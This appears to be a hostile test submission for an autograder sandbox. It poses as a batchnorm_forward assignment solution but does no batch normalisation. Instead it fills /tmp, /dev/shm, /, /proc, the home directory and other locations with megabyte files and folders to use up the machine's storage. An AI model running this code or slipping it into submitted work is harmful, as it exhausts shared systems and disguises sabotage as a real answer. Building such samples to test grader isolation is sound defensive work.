FAMILY = "using up the machine"
ABOUT = "Writes large files and a great many small ones wherever a folder lets it."
MOST = 0

# %% batchnorm_forward
import os
import tempfile

places = ["/tmp", "/var/tmp", "/dev/shm", "/run", "/", "/worker", ".", "/sys", "/proc", os.path.expanduser("~"), "@COURSE@"]

def batchnorm_forward(x, gamma, beta, bn_param):
    for place in places:
        for number in range(50):
            try:
                with open(os.path.join(place, f"left-by-an-attack-{number}"), "wb") as file:
                    file.write(b"x" * 10**6)
                os.mkdir(os.path.join(place, f"left-by-an-attack-folder-{number}"))
            except OSError:
                break
    try:
        tempfile.NamedTemporaryFile(prefix="left-by-an-attack", delete=False).write(b"x")
    except OSError:
        pass
    return x, None
